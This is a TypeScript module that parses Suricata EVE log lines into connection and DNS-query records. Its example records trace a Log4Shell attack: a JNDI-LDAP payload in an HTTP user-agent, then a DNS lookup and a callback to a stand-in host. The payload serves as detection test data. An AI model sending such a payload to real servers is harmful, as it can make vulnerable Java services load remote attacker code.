import type { Outgoing } from '../outgoing.ts'
import { readTime } from '../time/read-time.ts'
import { answered } from './answered.ts'
import { portOf } from './columns.ts'
import type { LogFormat } from './format.ts'
import { collectedFields } from './json-lines.ts'
import { memberOf, textAt } from './members.ts'

/** Events of Suricata: alerts, requests, DNS, TLS and flows, one JSON object a line. */
export const suricataEve: LogFormat = {
  id: 'suricata-eve',
  summary: 'EVE of Suricata: alert, http, dns, tls, flow and every other event between two addresses',
  definedBy: 'https://docs.suricata.io/en/latest/output/eve/eve-json-format.html',
  witnesses: ['"dest_ip"', '"rrname"'],
  examples: {
    reads: [
      {
        record:
          '{"timestamp":"2021-12-12T04:25:41.123456+0000","event_type":"http","src_ip":"203.0.113.9","src_port":51234,"dest_ip":"10.0.0.4","dest_port":80,"proto":"TCP","http":{"hostname":"www.example.com","url":"/a","http_user_agent":"${jndi:ldap://x.example/a}","http_method":"GET"}}',
        when: '2021-12-12T04:25:41.123Z',
        from: '203.0.113.9',
        request: 'GET /a',
        userAgent: '${jndi:ldap://x.example/a}',
        saw: {
          is: 'connection',
          to: '10.0.0.4',
          name: 'www.example.com',
          port: 80,
          by: '203.0.113.9',
          protocol: 'http',
        },
      },
      {
        record:
          '{"timestamp":"2021-12-12T04:25:42.000000+0000","event_type":"dns","src_ip":"10.0.0.4","src_port":51234,"dest_ip":"10.0.0.1","dest_port":53,"proto":"UDP","dns":{"type":"query","id":1,"rrname":"x.example","rrtype":"A"}}',
        when: '2021-12-12T04:25:42Z',
        from: '10.0.0.4',
        saw: { is: 'dns-query', name: 'x.example', by: '10.0.0.4' },
      },
      {
        record:
          '{"timestamp":"2021-12-12T05:25:43.000000+0100","event_type":"tls","src_ip":"10.0.0.4","src_port":51235,"dest_ip":"203.0.113.9","dest_port":1636,"proto":"TCP","tls":{"sni":"x.example"}}',
        when: '2021-12-12T04:25:43Z',
        from: '10.0.0.4',
        saw: { is: 'connection', to: '203.0.113.9', name: 'x.example', port: 1636, by: '10.0.0.4', protocol: 'tls' },
      },
    ],
    refuses: ['{"event_type":"stats","stats":{}}', '{"timestamp":"2021-12-12T04:25:41Z","src_ip":"10.0.0.4"}'],
  },
  read({ json }, { around }) {
    const [type, time, source] = [textAt(json, 'event_type'), textAt(json, 'timestamp'), textAt(json, 'src_ip')]
    if (json === null || type === null || time === null || source === null) return null
    const url = textAt(json, 'http', 'url')
    const method = textAt(json, 'http', 'http_method')
    const saw = sawOf(json, type, source)
    return {
      when: readTime(time, around),
      from: source,
      request: url === null ? null : method === null ? url : `${method} ${url}`,
      userAgent: textAt(json, 'http', 'http_user_agent'),
      ...(saw === null ? {} : { saw }),
      fields: collectedFields(json),
    }
  },
}

function sawOf(json: object, type: string, source: string): Outgoing | null {
  const to = textAt(json, 'dest_ip')
  if (type === 'dns') {
    const name = nameAsked(memberOf(json, 'dns'))
    // Answers of older releases go from the resolver to who asked.
    const isAnswer = ['answer', 'response'].includes(textAt(json, 'dns', 'type') ?? '')
    const byAnswered = portOf(memberOf(json, 'src_port')) === 53
    if (name === null) return null
    return {
      is: 'dns-query',
      name,
      by: isAnswer && byAnswered ? to : source,
      ...answered(answersOf(memberOf(json, 'dns'))),
    }
  }
  if (to === null) return null
  const name = textAt(json, 'tls', 'sni') ?? textAt(json, 'http', 'hostname')
  const protocol = ['http', 'tls', 'ldap'].includes(type) ? type : (textAt(json, 'app_proto') ?? textAt(json, 'proto'))
  return {
    is: 'connection',
    to,
    name,
    port: portOf(memberOf(json, 'dest_port')),
    by: source,
    protocol: protocol?.toLowerCase() ?? null,
  }
}

function answersOf(dns: unknown): readonly string[] {
  const answers = memberOf(dns, 'answers')
  const listed = Array.isArray(answers) ? answers.flatMap((each: unknown) => textAt(each, 'rdata') ?? []) : []
  return [...listed, ...(textAt(dns, 'rdata') === null ? [] : [textAt(dns, 'rdata') ?? ''])]
}

/** Of any of the three versions of DNS events. */
function nameAsked(dns: unknown): string | null {
  const queries = memberOf(dns, 'queries') ?? memberOf(dns, 'query')
  return textAt(dns, 'rrname') ?? textAt(queries, '0', 'rrname')
}
